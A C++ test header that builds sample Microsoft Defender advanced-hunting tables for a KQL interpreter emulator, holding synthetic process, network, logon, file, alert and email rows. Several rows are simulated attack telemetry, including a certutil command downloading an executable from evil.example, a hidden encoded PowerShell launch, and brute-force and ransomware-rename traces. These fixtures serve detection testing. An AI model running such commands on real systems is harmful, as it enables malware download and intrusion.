#pragma once
// Test catalog for the KQL interpreter: the advanced-hunting tables with their documented columns
// (defender-entra-facts.md 1.5) and a handful of rows each, at a fixed "now".

#include <string>
#include <string_view>
#include <vector>

#include <emulator/kql/kql.hpp>
#include <emulator/kql/table.hpp>

namespace xdr::emulator::kql::testing {

// 2024-05-01T12:00:00Z.
inline util::TimePoint test_now() { return util::from_unix(1714564800); }

inline DateTime at_minutes_ago(int64_t minutes) {
  return DateTime{(1714564800LL - minutes * 60) * k_ticks_per_second};
}

// "Name:type" (type in KQL spelling; string when omitted) -> ColumnDef.
inline std::vector<ColumnDef> schema_of(std::initializer_list<std::string_view> spec) {
  std::vector<ColumnDef> out;
  for (std::string_view s : spec) {
    const size_t colon = s.find(':');
    ColumnDef c;
    c.name = std::string(s.substr(0, colon));
    c.type = colon == std::string_view::npos ? Type::string : *parse_kql_type(s.substr(colon + 1));
    out.push_back(c);
  }
  return out;
}

// Fills a table whose rows give values for some columns by name; other columns are null (or "" for strings).
class RowFiller {
public:
  explicit RowFiller(std::vector<ColumnDef> schema) : m_schema(std::move(schema)), m_builder(m_schema) {}
  RowFiller& row(std::vector<std::pair<std::string_view, Value>> values) {
    std::vector<Value> full(m_schema.size());
    for (size_t i = 0; i < m_schema.size(); ++i) {
      if (m_schema[i].type == Type::string) full[i] = Value(std::string());
    }
    for (auto& [name, v] : values) {
      for (size_t i = 0; i < m_schema.size(); ++i) {
        if (m_schema[i].name == name) full[i] = v;
      }
    }
    m_builder.add_row(std::move(full));
    return *this;
  }
  Table build() { return m_builder.build(); }

private:
  std::vector<ColumnDef> m_schema;
  TableBuilder m_builder;
};

inline std::vector<ColumnDef> initiating_process_columns() {
  return schema_of({"InitiatingProcessAccountDomain", "InitiatingProcessAccountName", "InitiatingProcessAccountSid",
                    "InitiatingProcessAccountUpn", "InitiatingProcessAccountObjectId", "InitiatingProcessLogonId:long",
                    "InitiatingProcessIntegrityLevel", "InitiatingProcessTokenElevation", "InitiatingProcessSHA1",
                    "InitiatingProcessSHA256", "InitiatingProcessMD5", "InitiatingProcessFileName",
                    "InitiatingProcessFileSize:long", "InitiatingProcessVersionInfoCompanyName",
                    "InitiatingProcessVersionInfoProductName", "InitiatingProcessVersionInfoProductVersion",
                    "InitiatingProcessVersionInfoInternalFileName", "InitiatingProcessVersionInfoOriginalFileName",
                    "InitiatingProcessVersionInfoFileDescription", "InitiatingProcessId:long",
                    "InitiatingProcessCommandLine", "InitiatingProcessCreationTime:datetime",
                    "InitiatingProcessFolderPath", "InitiatingProcessParentId:long", "InitiatingProcessParentFileName",
                    "InitiatingProcessParentCreationTime:datetime", "InitiatingProcessSignerType",
                    "InitiatingProcessSignatureStatus"});
}

inline std::vector<ColumnDef> concat(std::vector<ColumnDef> a, const std::vector<ColumnDef>& b) {
  a.insert(a.end(), b.begin(), b.end());
  return a;
}

inline Catalog hunting_catalog() {
  Catalog catalog;
  {
    auto schema = concat(
        schema_of({"Timestamp:datetime", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA1",
                   "SHA256", "MD5", "FileSize:long", "ProcessVersionInfoCompanyName", "ProcessVersionInfoProductName",
                   "ProcessVersionInfoProductVersion", "ProcessVersionInfoInternalFileName",
                   "ProcessVersionInfoOriginalFileName", "ProcessVersionInfoFileDescription", "ProcessId:long",
                   "ProcessCommandLine", "ProcessIntegrityLevel", "ProcessTokenElevation",
                   "ProcessCreationTime:datetime", "AccountDomain", "AccountName", "AccountSid", "AccountUpn",
                   "AccountObjectId", "LogonId:long"}),
        initiating_process_columns());
    schema = concat(schema, schema_of({"ReportId:long", "AppGuardContainerId", "AdditionalFields:dynamic"}));
    RowFiller f(schema);
    f.row({{"Timestamp", at_minutes_ago(10)}, {"DeviceId", "d1"}, {"DeviceName", "ws-01.contoso.com"},
           {"ActionType", "ProcessCreated"}, {"FileName", "powershell.exe"},
           {"FolderPath", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},
           {"ProcessCommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgA"}, {"AccountName", "alice"},
           {"AccountDomain", "contoso"}, {"InitiatingProcessFileName", "winword.exe"},
           {"InitiatingProcessCommandLine", "\"WINWORD.EXE\" /n invoice.docm"}, {"SHA256", "aa11"},
           {"FileSize", int64_t{450000}}, {"ReportId", int64_t{1}}, {"ProcessId", int64_t{4242}},
           {"AdditionalFields", Value::dynamic(nlohmann::json{{"Parent", "winword"}, {"Tags", {"a", "b"}}})}});
    f.row({{"Timestamp", at_minutes_ago(60 * 5)}, {"DeviceId", "d2"}, {"DeviceName", "ws-02.contoso.com"},
           {"ActionType", "ProcessCreated"}, {"FileName", "cmd.exe"}, {"FolderPath", "C:\\Windows\\System32\\cmd.exe"},
           {"ProcessCommandLine", "cmd.exe /c whoami /all"}, {"AccountName", "bob"}, {"AccountDomain", "contoso"},
           {"InitiatingProcessFileName", "explorer.exe"}, {"SHA256", "bb22"}, {"FileSize", int64_t{300000}},
           {"ReportId", int64_t{2}}, {"ProcessId", int64_t{17}}});
    f.row({{"Timestamp", at_minutes_ago(60 * 24 * 3)}, {"DeviceId", "d1"}, {"DeviceName", "ws-01.contoso.com"},
           {"ActionType", "ProcessCreated"}, {"FileName", "rundll32.exe"},
           {"FolderPath", "C:\\Windows\\System32\\rundll32.exe"},
           {"ProcessCommandLine", "rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll,Start"},
           {"AccountName", "alice"}, {"AccountDomain", "contoso"}, {"InitiatingProcessFileName", "powershell.exe"},
           {"SHA256", "cc33"}, {"FileSize", int64_t{70000}}, {"ReportId", int64_t{3}}, {"ProcessId", int64_t{99}}});
    f.row({{"Timestamp", at_minutes_ago(60 * 24 * 40)}, {"DeviceId", "d3"}, {"DeviceName", "srv-sql"},
           {"ActionType", "ProcessCreated"}, {"FileName", "certutil.exe"},
           {"FolderPath", "C:\\Windows\\System32\\certutil.exe"},
           {"ProcessCommandLine", "certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe"},
           {"AccountName", "svc_sql"}, {"AccountDomain", "contoso"}, {"InitiatingProcessFileName", "sqlservr.exe"},
           {"SHA256", "dd44"}, {"FileSize", int64_t{1000}}, {"ReportId", int64_t{4}}, {"ProcessId", int64_t{5}}});
    catalog.add("DeviceProcessEvents", f.build());
  }
  {
    auto schema = concat(schema_of({"Timestamp:datetime", "DeviceId", "DeviceName", "ActionType", "RemoteIP",
                                    "RemotePort:int", "RemoteUrl", "LocalIP", "LocalPort:int", "Protocol",
                                    "LocalIPType", "RemoteIPType"}),
                         initiating_process_columns());
    schema = concat(schema, schema_of({"ReportId:long", "AppGuardContainerId", "AdditionalFields:dynamic",
                                       "InitiatingProcessSessionId:long", "IsInitiatingProcessRemoteSession:bool",
                                       "InitiatingProcessRemoteSessionDeviceName", "InitiatingProcessRemoteSessionIP"}));
    RowFiller f(schema);
    f.row({{"Timestamp", at_minutes_ago(9)}, {"DeviceId", "d1"}, {"DeviceName", "ws-01.contoso.com"},
           {"ActionType", "ConnectionSuccess"}, {"RemoteIP", "203.0.113.7"}, {"RemotePort", int32_t{443}},
           {"RemoteUrl", "evil.example"}, {"LocalIP", "10.0.0.5"}, {"LocalPort", int32_t{50123}},
           {"Protocol", "Tcp"}, {"RemoteIPType", "Public"}, {"InitiatingProcessFileName", "powershell.exe"},
           {"ReportId", int64_t{11}}, {"IsInitiatingProcessRemoteSession", false}});
    f.row({{"Timestamp", at_minutes_ago(120)}, {"DeviceId", "d2"}, {"DeviceName", "ws-02.contoso.com"},
           {"ActionType", "ConnectionSuccess"}, {"RemoteIP", "10.0.0.9"}, {"RemotePort", int32_t{445}},
           {"LocalIP", "10.0.0.6"}, {"LocalPort", int32_t{50200}}, {"Protocol", "Tcp"}, {"RemoteIPType", "Private"},
           {"InitiatingProcessFileName", "svchost.exe"}, {"ReportId", int64_t{12}},
           {"IsInitiatingProcessRemoteSession", false}});
    f.row({{"Timestamp", at_minutes_ago(200)}, {"DeviceId", "d2"}, {"DeviceName", "ws-02.contoso.com"},
           {"ActionType", "ConnectionFailed"}, {"RemoteIP", "198.51.100.20"}, {"RemotePort", int32_t{4444}},
           {"RemoteUrl", ""}, {"LocalIP", "10.0.0.6"}, {"LocalPort", int32_t{50201}}, {"Protocol", "Tcp"},
           {"RemoteIPType", "Public"}, {"InitiatingProcessFileName", "rundll32.exe"}, {"ReportId", int64_t{13}},
           {"IsInitiatingProcessRemoteSession", true}});
    catalog.add("DeviceNetworkEvents", f.build());
  }
  {
    auto schema = concat(schema_of({"Timestamp:datetime", "DeviceId", "DeviceName", "ActionType", "LogonType",
                                    "AccountDomain", "AccountName", "AccountSid", "Protocol", "FailureReason",
                                    "IsLocalAdmin:bool", "LogonId:long", "RemoteDeviceName", "RemoteIP",
                                    "RemoteIPType", "RemotePort:int"}),
                         initiating_process_columns());
    schema = concat(schema, schema_of({"ReportId:long", "AppGuardContainerId", "AdditionalFields:dynamic"}));
    RowFiller f(schema);
    for (int i = 0; i < 12; ++i) {
      f.row({{"Timestamp", at_minutes_ago(30 + i)}, {"DeviceId", "d1"}, {"DeviceName", "ws-01.contoso.com"},
             {"ActionType", i < 11 ? "LogonFailed" : "LogonSuccess"}, {"LogonType", "Network"},
             {"AccountName", "administrator"}, {"AccountDomain", "contoso"}, {"RemoteIP", "198.51.100.20"},
             {"RemoteIPType", "Public"}, {"FailureReason", i < 11 ? "InvalidUserNameOrPassword" : ""},
             {"IsLocalAdmin", i == 11}, {"ReportId", int64_t{100 + i}}});
    }
    f.row({{"Timestamp", at_minutes_ago(500)}, {"DeviceId", "d2"}, {"DeviceName", "ws-02.contoso.com"},
           {"ActionType", "LogonSuccess"}, {"LogonType", "RemoteInteractive"}, {"AccountName", "bob"},
           {"AccountDomain", "contoso"}, {"RemoteIP", "10.0.0.5"}, {"RemoteIPType", "Private"},
           {"IsLocalAdmin", false}, {"ReportId", int64_t{200}}});
    catalog.add("DeviceLogonEvents", f.build());
  }
  {
    auto schema = concat(schema_of({"Timestamp:datetime", "DeviceId", "DeviceName", "ActionType", "FileName",
                                    "FolderPath", "SHA1", "SHA256", "MD5", "FileSize:long", "FileOriginUrl",
                                    "FileOriginIP", "PreviousFileName", "PreviousFolderPath", "RequestProtocol",
                                    "RequestAccountName", "RequestAccountDomain", "SensitivityLabel"}),
                         initiating_process_columns());
    schema = concat(schema, schema_of({"ReportId:long", "AppGuardContainerId", "AdditionalFields:dynamic"}));
    RowFiller f(schema);
    f.row({{"Timestamp", at_minutes_ago(8)}, {"DeviceId", "d1"}, {"DeviceName", "ws-01.contoso.com"},
           {"ActionType", "FileCreated"}, {"FileName", "a.exe"}, {"FolderPath", "C:\\Users\\alice\\Downloads\\a.exe"},
           {"SHA256", "ee55"}, {"FileOriginUrl", "http://evil.example/a.exe"},
           {"InitiatingProcessFileName", "certutil.exe"}, {"ReportId", int64_t{21}}, {"FileSize", int64_t{123}}});
    f.row({{"Timestamp", at_minutes_ago(7)}, {"DeviceId", "d1"}, {"DeviceName", "ws-01.contoso.com"},
           {"ActionType", "FileRenamed"}, {"FileName", "readme.txt.locked"}, {"PreviousFileName", "readme.txt"},
           {"FolderPath", "C:\\Users\\alice\\Documents\\readme.txt.locked"}, {"SHA256", "ff66"},
           {"InitiatingProcessFileName", "a.exe"}, {"ReportId", int64_t{22}}, {"FileSize", int64_t{2048}}});
    catalog.add("DeviceFileEvents", f.build());
  }
  {
    RowFiller f(schema_of({"Timestamp:datetime", "AlertId", "Title", "Category", "Severity", "ServiceSource",
                           "DetectionSource", "AttackTechniques"}));
    f.row({{"Timestamp", at_minutes_ago(5)}, {"AlertId", "da637"}, {"Title", "Suspicious PowerShell command line"},
           {"Category", "Execution"}, {"Severity", "High"}, {"ServiceSource", "Microsoft Defender for Endpoint"},
           {"DetectionSource", "EDR"}, {"AttackTechniques", "[\"PowerShell (T1059.001)\"]"}});
    f.row({{"Timestamp", at_minutes_ago(50)}, {"AlertId", "da638"}, {"Title", "Phishing email delivered"},
           {"Category", "InitialAccess"}, {"Severity", "Medium"}, {"ServiceSource", "Microsoft Defender for Office 365"},
           {"DetectionSource", "MDO"}, {"AttackTechniques", "[]"}});
    catalog.add("AlertInfo", f.build());
  }
  {
    RowFiller f(schema_of({"Timestamp:datetime", "AlertId", "Title", "Categories", "AttackTechniques",
                           "ServiceSource", "DetectionSource", "EntityType", "EvidenceRole", "EvidenceDirection",
                           "FileName", "FolderPath", "SHA1", "SHA256", "FileSize:long", "ThreatFamily", "RemoteIP",
                           "RemoteUrl", "AccountName", "AccountDomain", "AccountSid", "AccountObjectId", "AccountUpn",
                           "DeviceId", "DeviceName", "LocalIP", "NetworkMessageId", "EmailSubject", "Application",
                           "ApplicationId:int", "OAuthApplicationId", "ProcessCommandLine", "RegistryKey",
                           "RegistryValueName", "RegistryValueData", "AdditionalFields:dynamic", "Severity",
                           "CloudResource", "CloudPlatform", "ResourceType", "ResourceID", "SubscriptionId"}));
    f.row({{"Timestamp", at_minutes_ago(5)}, {"AlertId", "da637"}, {"EntityType", "Machine"},
           {"EvidenceRole", "Impacted"}, {"DeviceId", "d1"}, {"DeviceName", "ws-01.contoso.com"}});
    f.row({{"Timestamp", at_minutes_ago(5)}, {"AlertId", "da637"}, {"EntityType", "Process"},
           {"EvidenceRole", "Related"}, {"FileName", "powershell.exe"}, {"SHA256", "aa11"}, {"DeviceId", "d1"},
           {"ProcessCommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgA"}});
    f.row({{"Timestamp", at_minutes_ago(50)}, {"AlertId", "da638"}, {"EntityType", "MailMessage"},
           {"EvidenceRole", "Impacted"}, {"NetworkMessageId", "m1"}, {"EmailSubject", "Invoice overdue"}});
    catalog.add("AlertEvidence", f.build());
  }
  {
    RowFiller f(schema_of({"Timestamp:datetime", "NetworkMessageId", "InternetMessageId", "SenderMailFromAddress",
                           "SenderFromAddress", "SenderDisplayName", "SenderObjectId", "SenderMailFromDomain",
                           "SenderFromDomain", "SenderIPv4", "SenderIPv6", "RecipientEmailAddress", "RecipientObjectId",
                           "Subject", "EmailClusterId:long", "EmailDirection", "DeliveryAction", "DeliveryLocation",
                           "ThreatTypes", "ThreatNames", "DetectionMethods", "ConfidenceLevel",
                           "BulkComplaintLevel:int", "EmailAction", "EmailActionPolicy", "EmailActionPolicyGuid",
                           "AuthenticationDetails", "AttachmentCount:int", "UrlCount:int", "EmailLanguage",
                           "Connectors", "OrgLevelAction", "OrgLevelPolicy", "UserLevelAction", "UserLevelPolicy",
                           "ReportId", "AdditionalFields:dynamic", "LatestDeliveryLocation", "LatestDeliveryAction"}));
    f.row({{"Timestamp", at_minutes_ago(55)}, {"NetworkMessageId", "m1"}, {"SenderFromAddress", "billing@evil.example"},
           {"SenderFromDomain", "evil.example"}, {"SenderIPv4", "198.51.100.20"},
           {"RecipientEmailAddress", "alice@contoso.com"}, {"Subject", "Invoice overdue"},
           {"EmailDirection", "Inbound"}, {"DeliveryAction", "Delivered"}, {"DeliveryLocation", "Inbox/folder"},
           {"ThreatTypes", "Phish"}, {"AttachmentCount", int32_t{1}}, {"UrlCount", int32_t{2}},
           {"BulkComplaintLevel", int32_t{0}}, {"ReportId", "r1"}});
    f.row({{"Timestamp", at_minutes_ago(70)}, {"NetworkMessageId", "m2"}, {"SenderFromAddress", "news@contoso.com"},
           {"SenderFromDomain", "contoso.com"}, {"SenderIPv4", "10.0.0.1"}, {"RecipientEmailAddress", "bob@contoso.com"},
           {"Subject", "Weekly newsletter"}, {"EmailDirection", "Intra-org"}, {"DeliveryAction", "Delivered"},
           {"DeliveryLocation", "Inbox/folder"}, {"AttachmentCount", int32_t{0}}, {"UrlCount", int32_t{5}},
           {"BulkComplaintLevel", int32_t{7}}, {"ReportId", "r2"}});
    f.row({{"Timestamp", at_minutes_ago(75)}, {"NetworkMessageId", "m3"}, {"SenderFromAddress", "x@spam.example"},
           {"SenderFromDomain", "spam.example"}, {"RecipientEmailAddress", "bob@contoso.com"},
           {"Subject", "You won"}, {"EmailDirection", "Inbound"}, {"DeliveryAction", "Junked"},
           {"DeliveryLocation", "Junk folder"}, {"ThreatTypes", "Spam"}, {"AttachmentCount", int32_t{0}},
           {"UrlCount", int32_t{1}}, {"BulkComplaintLevel", int32_t{9}}, {"ReportId", "r3"}});
    catalog.add("EmailEvents", f.build());
  }
  {
    RowFiller f(schema_of({"Timestamp:datetime", "ActionType", "Application", "LogonType", "Protocol",
                           "FailureReason", "AccountName", "AccountDomain", "AccountUpn", "AccountSid",
                           "AccountObjectId", "AccountDisplayName", "DeviceName", "DeviceType", "OSPlatform",
                           "IPAddress", "Port:int", "DestinationDeviceName", "DestinationIPAddress",
                           "DestinationPort:int", "TargetDeviceName", "TargetAccountDisplayName", "Location", "Isp",
                           "ReportId", "AdditionalFields:dynamic"}));
    f.row({{"Timestamp", at_minutes_ago(15)}, {"ActionType", "LogonFailed"}, {"Application", "Active Directory"},
           {"LogonType", "Resource access"}, {"Protocol", "Kerberos"}, {"AccountName", "alice"},
           {"AccountUpn", "alice@contoso.com"}, {"DeviceName", "ws-01"}, {"IPAddress", "10.0.0.5"},
           {"DestinationDeviceName", "dc-01"}, {"ReportId", "i1"}, {"FailureReason", "WrongPassword"}});
    f.row({{"Timestamp", at_minutes_ago(16)}, {"ActionType", "LogonSuccess"}, {"Application", "Active Directory"},
           {"LogonType", "Resource access"}, {"Protocol", "Ntlm"}, {"AccountName", "bob"},
           {"AccountUpn", "bob@contoso.com"}, {"DeviceName", "ws-02"}, {"IPAddress", "10.0.0.6"},
           {"DestinationDeviceName", "dc-01"}, {"ReportId", "i2"}});
    catalog.add("IdentityLogonEvents", f.build());
  }
  return catalog;
}

} // namespace xdr::emulator::kql::testing
